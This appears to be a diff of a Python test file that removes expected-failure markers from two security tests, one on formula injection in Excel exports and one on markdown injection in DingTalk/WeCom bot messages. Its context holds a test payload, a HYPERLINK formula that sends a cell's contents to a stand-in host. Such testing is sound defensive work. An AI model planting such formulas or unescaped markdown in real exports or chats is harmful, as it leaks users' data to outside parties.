@@ -365,12 +365,6 @@ def test_payloads_are_plain_text_in_the_excel_export(filled):
 FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"详情")'
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="formula injection: enterprises/exports.py (_cell) and the session summary "
-    "(enterprises/views/sessions.py, summary_workbook) write text that starts with = as a "
-    "formula; outside this brief's files, reported",
-)
 def test_text_that_looks_like_a_formula_stays_text_in_the_exports(db, clock, entrepreneur_world):
     people = entrepreneur_world
     client = Client()
@@ -405,12 +399,6 @@ def entrepreneur_world(db, clock):
     return SimpleNamespace(dispatcher=dispatcher, session=session)
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="markdown injection: portal/channels.py puts notification bodies (e.g. an "
-    "entrepreneur's dissatisfied-rating comment) into DingTalk/WeCom markdown unescaped, so a "
-    "link or tracking image can be planted in a department's group chat; reported",
-)
 def test_robot_posts_show_a_persons_text_as_text():
     from portal.channels import render_dingtalk, render_wecom
 
